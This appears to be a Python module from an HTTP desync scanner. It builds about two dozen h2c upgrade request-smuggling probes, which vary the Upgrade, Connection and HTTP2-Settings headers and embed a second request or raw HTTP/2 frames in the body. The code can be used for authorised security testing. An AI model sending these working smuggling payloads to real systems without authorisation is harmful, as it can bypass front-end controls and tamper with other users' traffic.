"""h2c (HTTP/1.1 to cleartext HTTP/2 upgrade) payloads.

Each probe is an HTTP/1.1 request asking to upgrade to h2c with a forged
``HTTP2-Settings`` header. A front end that ignores the upgrade forwards the
request as plain HTTP/1.1, while a back end that honors it switches protocol
and treats whatever follows as HTTP/2 frames. The embedded content is either
a second HTTP/1.1 request or real HTTP/2 frames; both leave the two hops
disagreeing about where the first request ended.
"""

from dataclasses import dataclass
from typing import List, Optional, Tuple

from desync_scanner.core.models import CandidatePayload, CheckType
from desync_scanner.payloads.generator import (
    RequestParts,
    build_request_line,
    encode_request,
    format_cookies,
    format_custom_headers,
    number_variants,
)
from desync_scanner.payloads.http2.framing import (
    MINIMAL_SETTINGS,
    prior_knowledge_frames,
    settings_header_value,
)

SMUGGLED_PATH = "/smuggled"


@dataclass(frozen=True)
class H2CVariant:
    description: str
    upgrade: Tuple[str, ...] = ("Upgrade: h2c",)
    connection: str = "Connection: Upgrade, HTTP2-Settings"
    settings: Optional[str] = None
    settings_first: bool = False
    extra: Tuple[str, ...] = ()
    body: bytes = b""


def smuggled_request(host: str) -> bytes:
    return encode_request(
        build_request_line("GET", SMUGGLED_PATH) + f"Host: {host}\r\n\r\n"
    )


def _variants(parts: RequestParts) -> List[H2CVariant]:
    default = settings_header_value()
    smuggled = smuggled_request(parts.host)
    frames = prior_knowledge_frames(parts.host, SMUGGLED_PATH)
    bare_frames = prior_knowledge_frames(parts.host, SMUGGLED_PATH, include_preface=False)
    chunked = b"0\r\n\r\n" + smuggled

    return [
        H2CVariant("Standard h2c upgrade"),
        H2CVariant("Uppercase upgrade token", upgrade=("Upgrade: H2C",)),
        H2CVariant("Upgrade token list", upgrade=("Upgrade: h2c, http/1.1",)),
        H2CVariant("Leading space before Upgrade", upgrade=(" Upgrade: h2c",)),
        H2CVariant("No space after Upgrade colon", upgrade=("Upgrade:h2c",)),
        H2CVariant(
            "Double Upgrade header",
            upgrade=("Upgrade: http/1.1", "Upgrade: h2c"),
        ),
        H2CVariant(
            "Lowercase Connection tokens",
            connection="Connection: upgrade, http2-settings",
        ),
        H2CVariant(
            "Uppercase Connection tokens",
            connection="Connection: UPGRADE, HTTP2-SETTINGS",
        ),
        H2CVariant(
            "Reversed Connection tokens",
            connection="Connection: HTTP2-Settings, Upgrade",
        ),
        H2CVariant(
            "keep-alive in Connection list",
            connection="Connection: keep-alive, Upgrade, HTTP2-Settings",
        ),
        H2CVariant(
            "HTTP2-Settings missing from Connection",
            connection="Connection: Upgrade",
        ),
        H2CVariant(
            "Minimal settings payload",
            settings=f"HTTP2-Settings: {settings_header_value(MINIMAL_SETTINGS)}",
        ),
        H2CVariant("Empty settings payload", settings="HTTP2-Settings: "),
        H2CVariant(
            "Standard base64 alphabet settings",
            settings=f"HTTP2-Settings: {settings_header_value(MINIMAL_SETTINGS, urlsafe=False)}",
        ),
        H2CVariant(
            "No space after settings colon",
            settings=f"HTTP2-Settings:{default}",
        ),
        H2CVariant(
            "Lowercase settings header name",
            settings=f"http2-settings: {default}",
        ),
        H2CVariant("Settings header before Host", settings_first=True),
        H2CVariant(
            "Embedded HTTP/1.1 request after upgrade",
            extra=(f"Content-Length: {len(smuggled)}",),
            body=smuggled,
        ),
        H2CVariant(
            "Upgrade combined with chunked body",
            extra=("Transfer-Encoding: chunked",),
            body=chunked,
        ),
        H2CVariant(
            "Zero Content-Length followed by request",
            extra=("Content-Length: 0",),
            body=smuggled,
        ),
        H2CVariant(
            "Embedded prior-knowledge HTTP/2 frames",
            extra=(f"Content-Length: {len(frames)}",),
            body=frames,
        ),
        H2CVariant(
            "Embedded HTTP/2 frames without preface",
            extra=(f"Content-Length: {len(bare_frames)}",),
            body=bare_frames,
        ),
        H2CVariant(
            "Content-Length longer than body",
            extra=("Content-Length: 10",),
            body=b"x",
        ),
    ]


def build_h2c_request(parts: RequestParts, variant: H2CVariant, default_settings: str) -> bytes:
    settings = variant.settings
    if settings is None:
        settings = f"HTTP2-Settings: {default_settings}"

    head = build_request_line(parts.method, parts.path)
    if variant.settings_first:
        head += f"{settings}\r\n"
    head += f"Host: {parts.host}\r\n"
    head += format_custom_headers(parts.headers)
    head += format_cookies(parts.cookies)
    head += f"{variant.connection}\r\n"
    head += "".join(f"{line}\r\n" for line in variant.upgrade)
    if not variant.settings_first:
        head += f"{settings}\r\n"
    head += "".join(f"{line}\r\n" for line in variant.extra)
    head += "\r\n"
    return encode_request(head) + variant.body


def generate_h2c(parts: RequestParts) -> List[CandidatePayload]:
    parts.validate(CheckType.H2C.value)
    default_settings = settings_header_value()
    return number_variants(
        CheckType.H2C,
        (
            (variant.description, build_h2c_request(parts, variant, default_settings))
            for variant in _variants(parts)
        ),
    )
